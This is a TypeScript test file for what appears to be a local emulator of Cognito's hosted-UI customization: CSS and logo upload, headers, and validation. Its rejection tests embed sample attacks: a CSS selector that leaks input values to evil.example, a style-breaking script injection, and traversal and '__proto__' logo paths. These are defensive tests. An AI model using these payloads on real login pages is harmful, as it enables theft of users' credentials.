import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import {
  DeleteUserPoolClientCommand,
  GetUICustomizationCommand,
  SetUICustomizationCommand,
  type SetUICustomizationCommandInput,
} from '@aws-sdk/client-cognito-identity-provider'
import { makeClient, makePool } from '../../fixture.ts'
import { serviceError, useServer } from '../../harness.ts'
import { createDomain, custom } from '../domains/fixture.ts'
import { files, missing, unknownClient, unknownPool } from './fixture.ts'

const server = useServer()
const IPE = 'InvalidParameterException'
const CSS = '.label-customizable { font-weight: 400; }'

const makeStyledPool = async () => {
  const sdk = server.client()
  const pool = await makePool(sdk)
  await createDomain(sdk, pool.poolId)
  return pool
}
const set = async (input: SetUICustomizationCommandInput) =>
  (await server.client().send(new SetUICustomizationCommand(input))).UICustomization ?? {}
const get = async (UserPoolId: string, ClientId?: string) =>
  (await server.client().send(new GetUICustomizationCommand({ UserPoolId, ClientId }))).UICustomization

test('sets style and logo together, for all clients and for one', async () => {
  const { poolId, clientId } = await makeStyledPool()
  for (const [stated, ClientId] of [
    [undefined, 'ALL'],
    ['ALL', 'ALL'],
    [clientId, clientId],
  ]) {
    const made = await set({ UserPoolId: poolId, ClientId: stated, CSS, ImageFile: files.PNG })
    const { CSSVersion, CreationDate, LastModifiedDate, ImageUrl, ...rest } = made
    assert.deepEqual(rest, { UserPoolId: poolId, ClientId, CSS })
    assert.match(CSSVersion ?? '', /^20\d{12}$/)
    assert.ok(CreationDate && LastModifiedDate && LastModifiedDate >= CreationDate)
    assert.ok(ImageUrl?.startsWith(`${server.url.replace('127.0.0.1', 'localhost')}/${poolId}/logo/${ClientId}/`))
    assert.deepEqual(await get(poolId, stated), made)
    const logo = await fetch(ImageUrl ?? '')
    assert.deepEqual(new Uint8Array(await logo.arrayBuffer()), files.PNG)
    assert.equal(logo.headers.get('content-type'), 'image/png')
    assert.equal(logo.headers.get('x-content-type-options'), 'nosniff')
    assert.equal(logo.headers.get('content-security-policy'), "default-src 'none'; sandbox")
  }
})

test('takes away what a request leaves out, and everything with neither', async () => {
  const { poolId } = await makeStyledPool()
  const first = await set({ UserPoolId: poolId, CSS, ImageFile: files.JPEG })
  const logo = await fetch(first.ImageUrl ?? '')
  assert.equal(logo.headers.get('content-type'), 'image/jpeg')
  server.travel(2000)
  const second = await set({ UserPoolId: poolId, ImageFile: files.PNG })
  assert.equal(second.CSS, undefined)
  assert.deepEqual(second.CreationDate, first.CreationDate)
  assert.ok(Number(second.LastModifiedDate) > Number(first.LastModifiedDate))
  assert.equal((await fetch(first.ImageUrl ?? '')).status, 404)
  const third = await set({ UserPoolId: poolId, CSS, ImageFile: new Uint8Array() })
  assert.deepEqual([third.CSS, third.ImageUrl], [CSS, undefined])
  assert.equal((await fetch(second.ImageUrl ?? '')).status, 404)
  assert.deepEqual(await set({ UserPoolId: poolId, CSS: '' }), { UserPoolId: poolId, ClientId: 'ALL' })
  assert.deepEqual(await get(poolId), {})
  assert.deepEqual(await set({ UserPoolId: poolId }), { UserPoolId: poolId, ClientId: 'ALL' })
})

test('serves a pool with a custom domain alone', async () => {
  const sdk = server.client()
  const { poolId } = await makePool(sdk)
  await createDomain(sdk, poolId, { Domain: 'auth.example.com', CustomDomainConfig: custom })
  assert.equal((await set({ UserPoolId: poolId, CSS })).CSS, CSS)
})

test('goes with its client, and not with another one', async () => {
  const sdk = server.client()
  const { poolId, clientId } = await makeStyledPool()
  const { clientId: other } = await makeClient(sdk, poolId)
  for (const ClientId of [undefined, clientId, other]) await set({ UserPoolId: poolId, ClientId, CSS })
  await sdk.send(new DeleteUserPoolClientCommand({ UserPoolId: poolId, ClientId: clientId }))
  assert.equal(await server.ctx.store.uiCustomizations.find(poolId, clientId), undefined)
  assert.deepEqual([(await get(poolId))?.ClientId, (await get(poolId, other))?.ClientId], ['ALL', other])
})

test('paths of logos that are none', async () => {
  const { poolId } = await makeStyledPool()
  for (const path of ['ALL/20260101000000', '%00/1', '..%2f/1', 'ALL/x', '__proto__/1']) {
    assert.equal((await fetch(`${server.url}/${poolId}/logo/${path}`)).status, 404)
  }
})

suite('refuses', () => {
  const IMAGE = 'The image must be a PNG or JPEG file of at most 100 KB.'
  const png = (length: number) => new Uint8Array(Buffer.concat([files.PNG], length))
  const rows: [string, Partial<SetUICustomizationCommandInput>, string, string | RegExp][] = [
    unknownPool,
    unknownClient,
    missing('UserPoolId'),
    [
      'V39: style that imports',
      { CSS: `${CSS}\n@import "x";` },
      IPE,
      /^Invalid CSS at line 2: only rules for classes are allowed$/,
    ],
    [
      'V39: style that ends its element',
      { CSS: '</style><script>' },
      IPE,
      'Invalid CSS at line 1: markup is not allowed',
    ],
    [
      'V39: style that reads inputs',
      { CSS: 'input[value^="a"]{background:url(https://evil.example/a)}' },
      IPE,
      'Invalid CSS at line 1: only the classes of the template may be selected',
    ],
    ['style too long', { CSS: ' '.repeat(131_073) }, IPE, /at 'CSS' failed|at 'cSS' failed/],
    ['a logo in another format', { ImageFile: files.WEBP }, IPE, IMAGE],
    ['a logo that is an SVG', { ImageFile: files.SVG }, IPE, IMAGE],
    ['a logo over 100 KB', { ImageFile: png(100 * 1024 + 1) }, IPE, IMAGE],
    [
      'more than 135 KB in all',
      { ImageFile: png(100 * 1024), CSS: CSS + ' '.repeat(2000) },
      IPE,
      'request parameters too large',
    ],
    [
      'a logo over the bounds of its type',
      { ImageFile: png(131_073) },
      IPE,
      /at 'imageFile' failed .* less than or equal to 131072$/,
    ],
  ]
  for (const [name, change, error, message] of rows) {
    test(name, async () => {
      const { poolId } = await makeStyledPool()
      await assert.rejects(set({ UserPoolId: poolId, ...change }), serviceError(error, message))
      assert.deepEqual(await get(poolId), {})
    })
  }

  test('a pool without a domain', async () => {
    const { poolId } = await makePool(server.client())
    await assert.rejects(
      set({ UserPoolId: poolId, CSS }),
      serviceError(IPE, 'A domain must be associated with this user pool.'),
    )
  })

  test("another pool's client", async () => {
    const [{ poolId }, { clientId }] = [await makeStyledPool(), await makeStyledPool()]
    await assert.rejects(
      set({ UserPoolId: poolId, ClientId: clientId, CSS }),
      serviceError('ResourceNotFoundException', `User pool client ${clientId} does not exist.`),
    )
  })
})

test('a logo of 100 KB', async () => {
  const { poolId } = await makeStyledPool()
  const ImageFile = new Uint8Array(Buffer.concat([files.PNG], 100 * 1024))
  const { ImageUrl } = await set({ UserPoolId: poolId, ImageFile })
  assert.deepEqual(new Uint8Array(await (await fetch(ImageUrl ?? '')).arrayBuffer()), ImageFile)
})
